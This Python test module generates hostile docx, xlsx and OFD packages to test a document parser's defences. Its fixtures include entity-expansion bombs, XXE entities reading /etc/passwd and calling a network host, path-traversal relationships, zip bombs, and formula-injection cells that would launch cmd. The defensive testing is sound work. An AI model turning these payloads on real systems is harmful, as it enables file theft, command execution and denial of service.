"""Hostile packages of Office and OFD: zips of XML parts."""

from __future__ import annotations

from tests import ofdfiles
from tests.brokenfiles import WORD, WORD_XML, replaced, sound
from tests.hostile.case import READ, case, overlapping_zip, stored_zip
from tests.ofdfiles import layer, root, text, zipped
from tests.sheetfiles import parts
from tests.wordfiles import docx, p

LAUGHS = '<!DOCTYPE x [<!ENTITY a "lol">%s]>' % "".join(  # noqa: UP031 - braces and per cents as XML has them
    f'<!ENTITY {chr(98 + level)} "{f"&{chr(97 + level)};" * 10}">' for level in range(10)
)
"""Entities that grow to thirty thousand million characters."""
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "http://192.0.2.1/">]>'
SECRET = "root:x:0"
FAR = "../../../../../../tmp/gouji-escaped"


def word(inside: bytes, before: str = "") -> bytes:
    """A document whose main part holds XML as it is; before: what stands before its root."""
    return replaced(sound()["docx"], WORD, before.encode() + WORD_XML % inside)


@case("laughs.docx", "docx-entities", "docx-damaged")
def laughs() -> bytes:
    """Entities that grow to thirty thousand million characters."""
    return word(b"<w:p><w:r><w:t>&k;</w:t></w:r></w:p><w:p><w:r><w:t>9</w:t></w:r></w:p>", LAUGHS)


@case("outside.docx", "docx-entities")
def outside() -> bytes:
    """Entities that would fetch a file of this machine, and one from the network."""
    return word(b"<w:p><w:r><w:t>&a;&b; 9</w:t></w:r></w:p>", OUTSIDE)


@case("paragraphs.docx", "docx-bomb")
def paragraphs() -> bytes:
    """A hundred and sixty megabytes of paragraphs in half a megabyte."""
    return word(b"<w:p><w:r><w:t>x</w:t></w:r></w:p>" * (160 * 2**20 // 34))


@case("million.docx", READ, "docx-bomb", "memory-limit", "time-limit", heavy=True)
def million() -> bytes:
    """A million paragraphs that each say something else, within all limits on bytes."""
    return word(b"".join(b"<w:p><w:r><w:t>%x</w:t></w:r></w:p>" % (number * 2654435761 % 2**32) for number in range(760_000)))


@case("cells.docx", READ, "docx-bomb", "docx-damaged")
def cells() -> bytes:
    """A table of two hundred thousand cells, each said to span two thousand million columns."""
    cell = b'<w:tc><w:tcPr><w:gridSpan w:val="2147483647"/></w:tcPr><w:p/></w:tc>'
    return word(b"<w:tbl><w:tr>" + cell * 20_000 + b"</w:tr></w:tbl><w:p><w:r><w:t>9</w:t></w:r></w:p>")


@case("tables.docx", READ, "docx-damaged", "docx-blank")
def tables() -> bytes:
    """Tables in tables, a thousand deep."""
    return word(b"<w:tbl><w:tr><w:tc>" * 1000 + b"<w:p/>" + b"</w:tc></w:tr></w:tbl>" * 1000)


@case("styles-circle.docx", READ, "docx-damaged")
def styles_circle() -> bytes:
    """Styles that rest on each other in a circle, and a numbering that begins at two thousand million."""
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="{a}"><w:name w:val="{a}"/><w:basedOn w:val="{b}"/><w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr></w:style>'
        for a, b in ("AB", "BA")
    )
    level = (
        '<w:lvl w:ilvl="0"><w:start w:val="2147483647"/><w:numFmt w:val="chineseCounting"/><w:lvlText w:val="%1%1%1%1%1%1%1%1%1"/></w:lvl>'
    )
    numbering = f'<w:abstractNum w:abstractNumId="0">{level}</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'
    return docx(p("自评得分9分", style="A"), p("自评得分9分", style="B"), styles=styles, numbering=numbering)


@case("letters.docx", READ)
def letters() -> bytes:
    """Paragraphs that are numbered in letters and in Roman numbers, from two thousand million on: the labels would be as long as the number."""
    levels = "".join(
        f'<w:abstractNum w:abstractNumId="{number}"><w:lvl w:ilvl="0"><w:start w:val="2147483647"/><w:numFmt w:val="{form}"/>'
        f'<w:lvlText w:val="%1%1%1"/></w:lvl></w:abstractNum>'
        for number, form in enumerate(("upperLetter", "lowerRoman"))
    )
    numbers = "".join(f'<w:num w:numId="{number}"><w:abstractNumId w:val="{number - 1}"/></w:num>' for number in (1, 2))
    body = "".join(
        f'<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="{number}"/></w:numPr></w:pPr><w:r><w:t>自评得分9分</w:t></w:r></w:p>'
        for number in (1, 2)
    )
    return docx(body, numbering=levels + numbers)


@case("relations.docx", READ, "docx-damaged")
def relations() -> bytes:
    """Parts that are fetched from the network, from outside the package, and from themselves."""
    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    related = (
        f'<Relationship Id="x1" Type="{kinds}/attachedTemplate" Target="http://192.0.2.1/a.dotm" TargetMode="External"/>'
        f'<Relationship Id="x2" Type="{kinds}/header" Target="{FAR}"/><Relationship Id="x3" Type="{kinds}/header" Target="document.xml"/>'
        f'<Relationship Id="x4" Type="{kinds}/image" Target="file:///etc/passwd" TargetMode="External"/>'
    )
    return docx(p("自评得分9分"), relations=related)


@case("overlapping.docx", "docx-bomb", "docx-damaged")
def overlapping() -> bytes:
    """Ten thousand parts that are one and the same place of the file."""
    return overlapping_zip([WORD, *(f"word/{number}.xml" for number in range(9_990))], WORD_XML % (b"<w:p/>" * 100_000))


@case("small-claims.docx", READ, "docx-damaged", "docx-blank")
def small_claims() -> bytes:
    """Parts that are said to be ten bytes and unpack to forty megabytes."""
    return stored_zip((WORD, WORD_XML % (b"<w:p/>" * 6_000_000)), claimed=10)


@case("twice.docx", READ, "docx-damaged")
def twice() -> bytes:
    """Two parts of one name."""
    return stored_zip((WORD, WORD_XML % b"<w:p/>"), (WORD, WORD_XML % b"<w:p><w:r><w:t>9</w:t></w:r></w:p>"))


@case("attributes.docx", READ, "docx-damaged", "docx-bomb", "docx-blank")
def attributes() -> bytes:
    """A paragraph of two hundred thousand attributes, and as many names of namespaces."""
    return word(b"<w:p " + b" ".join(b'a%d="b" xmlns:n%d="urn:%d"' % ((number,) * 3) for number in range(100_000)) + b"/>")


@case("laughs.xlsx", "xlsx-entities", "xlsx-damaged")
def laughs_sheet() -> bytes:
    """Entities that grow to thirty thousand million characters."""
    return parts(
        "", {"xl/worksheets/sheet1.xml": f"{LAUGHS}<worksheet><sheetData><row><c t='str'><v>&k;</v></c></row></sheetData></worksheet>"}
    )


@case("outside.xlsx", "xlsx-entities")
def outside_sheet() -> bytes:
    """Entities that would fetch a file of this machine, and one from the network."""
    return parts(
        "", {"xl/worksheets/sheet1.xml": f"{OUTSIDE}<worksheet><sheetData><row><c t='str'><v>&a;&b;</v></c></row></sheetData></worksheet>"}
    )


@case("rows.xlsx", "xlsx-too-large", "xlsx-bomb")
def rows() -> bytes:
    """All 1,048,576 rows of a sheet, each with a word."""
    return parts(
        "<sheetData>" + "".join(f"<row><c><v>{number * 2654435761 % 2**32}</v></c></row>" for number in range(1_048_576)) + "</sheetData>"
    )


@case("far-cells.xlsx", READ, "xlsx-too-large")
def far_cells() -> bytes:
    """Three thousand words along the diagonal of a sheet, drawn together by merged cells."""
    found = "".join(
        f'<row r="{1 + number * 300}"><c r="{column(1 + number * 5)}{1 + number * 300}"><v>9</v></c></row>' for number in range(3000)
    )
    return parts(f'<sheetData>{found}</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')


def column(number: int) -> str:
    letters = ""
    while number:
        number, left = divmod(number - 1, 26)
        letters = chr(65 + left) + letters
    return letters


@case("merges.xlsx", "xlsx-too-large")
def merges() -> bytes:
    """A hundred and fifty thousand merged cells."""
    merged = "".join(f'<mergeCell ref="A{number}:B{number}"/>' for number in range(1, 150_001))
    return parts(f"<sheetData><row><c><v>9</v></c></row></sheetData><mergeCells>{merged}</mergeCells>")


@case("strings.xlsx", "xlsx-damaged")
def strings() -> bytes:
    """A cell that shows the string of a number that there is none of."""
    return parts('<sheetData><row><c t="s"><v>999999999</v></c></row></sheetData>', strings="<si><t>a</t></si>")


@case("formulas.xlsx", READ)
def formulas() -> bytes:
    """Words that a spreadsheet would take for formulas that start programs."""
    evil = ("=cmd|' /C calc'!A1", "@SUM(1+1)*cmd|' /C calc'!A1", "+HYPERLINK(&quot;http://192.0.2.1/&quot;)", "-2+3", "\t=1")
    return parts("<sheetData>" + "".join(f'<row><c t="str"><v>{one}</v></c><c><v>9</v></c></row>' for one in evil) + "</sheetData>")


@case("formats.xlsx", READ, "xlsx-damaged")
def formats() -> bytes:
    """Formats of numbers that are a hundred thousand characters long, dates at the end of time, numbers beyond all counting."""
    codes = ("#" * 100_000, "yyyy-mm-dd " * 9000, "[h]:mm:ss", "0" * 5000 + "." + "0" * 5000, '"' * 9999)
    written = [code.replace('"', "&quot;") for code in codes]
    named = "".join(f'<numFmt numFmtId="{200 + index}" formatCode="{code}"/>' for index, code in enumerate(written))
    used = "".join(f'<xf numFmtId="{200 + index}"/>' for index in range(len(codes)))
    styles = f"<numFmts>{named}</numFmts><cellXfs>{used}</cellXfs>"
    values = ("1e308", "-1e308", "1e-320", "nan", "99999999999999999999999999", "-1")
    cells = ["".join(f'<c s="{style}"><v>{value}</v></c>' for style in range(len(codes))) for value in values]
    found = "".join(f"<row>{one}</row>" for one in cells)
    return parts(f"<sheetData>{found}</sheetData>", styles=styles)


@case("columns.xlsx", READ, "xlsx-damaged", "xlsx-too-large")
def columns() -> bytes:
    """Two thousand million hidden columns, and cells at places that do not exist."""
    cols = '<cols><col min="1" max="2147483647" hidden="1"/></cols>'
    return parts(
        f'{cols}<sheetData><row r="4294967295"><c r="ZZZ9999999"><v>9</v></c></row><row r="1"><c r="A1"><v>9</v></c></row></sheetData>'
    )


@case("sheets.xlsx", "xlsx-too-large")
def sheets() -> bytes:
    """Six hundred names for one sheet."""
    main, relation = (
        "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
    )
    named = "".join(f'<sheet name="{number}" sheetId="{number}" r:id="s"/>' for number in range(1, 601))
    return parts("<sheetData/>", {"xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{relation}"><sheets>{named}</sheets></workbook>'})


@case("overlapping.xlsx", "xlsx-bomb", "xlsx-damaged")
def overlapping_sheet() -> bytes:
    """Ten thousand parts that are one and the same place of the file."""
    return overlapping_zip(
        ["xl/workbook.xml", *(f"xl/worksheets/{number}.xml" for number in range(9_990))], b"<x>" + b" " * 600_000 + b"</x>"
    )


PAGE = "Doc_0/Pages/Page_0/Content.xml"


def page_with(inside: str, before: str = "", **more: str) -> bytes:
    made = ofdfiles.parts([ofdfiles.page(layer(text("自评得分9分", 20, 30), inside), before=before)])
    return zipped(made | more)


@case("laughs.ofd", "ofd-damaged", "ofd-bomb", READ)
def laughs_ofd() -> bytes:
    """Entities that grow to thirty thousand million characters."""
    made = ofdfiles.parts([ofdfiles.page(layer(text("自评得分9分", 20, 30)))])
    content = str(made[PAGE]).replace("自评", "&k;").replace("?>", f"?>{LAUGHS}", 1)
    return zipped(made | {PAGE: content})


@case("template-circle.ofd", READ, "ofd-damaged", "ofd-bomb")
def template_circle() -> bytes:
    """A page that is its own template."""
    common = f'<ofd:TemplatePage ID="50" BaseLoc="{PAGE.removeprefix("Doc_0/")}"/>'
    return ofdfiles.ofd(ofdfiles.page(layer(text("自评得分9分", 20, 30)), before='<ofd:Template TemplateID="50"/>'), common=common)


@case("composite-powers.ofd", "ofd-bomb")
def composite_powers() -> bytes:
    """Objects made of ten others, twenty times over."""
    units = "".join(
        f'<ofd:CompositeGraphicUnit ID="{30 + level}"><ofd:Content>{f"""<ofd:CompositeObject ResourceID="{31 + level}"/>""" * 10}</ofd:Content></ofd:CompositeGraphicUnit>'
        for level in range(20)
    )
    call = '<ofd:CompositeObject ID="1" ResourceID="30"/>'
    return page_with(call, **{"Doc_0/PublicRes.xml": root("Res", f"<ofd:CompositeGraphicUnits>{units}</ofd:CompositeGraphicUnits>")})


@case("deltas.ofd", READ, "ofd-bomb", "ofd-damaged")
def deltas() -> bytes:
    """A distance between characters that is repeated a thousand million times, and others of no number."""
    evil = '<ofd:TextObject ID="1" Boundary="0 0 210 297" Font="2" Size="1e308" CTM="1e300 nan 0 inf 0 0"><ofd:TextCode X="nan" Y="1e999" DeltaX="{}">自评得分9分</ofd:TextCode></ofd:TextObject>'
    return page_with("".join(evil.format(one) for one in ("g 1000000000 1", "g -5 1", "g g g", "1 " * 100_000)))


@case("areas.ofd", READ, "ofd-damaged", "ofd-blank")
def areas() -> bytes:
    """A page of a million kilometres, upside down."""
    return ofdfiles.ofd(ofdfiles.page(layer(text("自评得分9分", 20, 30))), area="1e12 1e12 -1e12 nan")


@case("paths.ofd", READ, "ofd-damaged", "ofd-no-pages")
def paths() -> bytes:
    """Pages and pictures that stand outside the package."""
    document = ofdfiles.document(3, at=FAR + "{}").replace("PublicRes.xml", "/etc/passwd")
    return zipped(ofdfiles.parts([ofdfiles.page(layer(text("自评得分9分", 20, 30)))]) | {"Doc_0/Document.xml": document})


@case("lines.ofd", READ, "ofd-bomb")
def lines() -> bytes:
    """A drawing of a hundred thousand strokes."""
    return page_with(ofdfiles.path("M 0 0 " + "L 9 9 Q 1 1 2 2 B 1 1 2 2 3 3 A 1 1 0 0 0 4 4 " * 20_000))


@case("overlapping.ofd", "ofd-bomb", "ofd-damaged")
def overlapping_ofd() -> bytes:
    """Forty thousand parts that are one and the same place of the file."""
    return overlapping_zip(["OFD.xml", *(f"Doc_0/{number}.xml" for number in range(40_000))], b"<x>" + b" " * 60_000 + b"</x>")
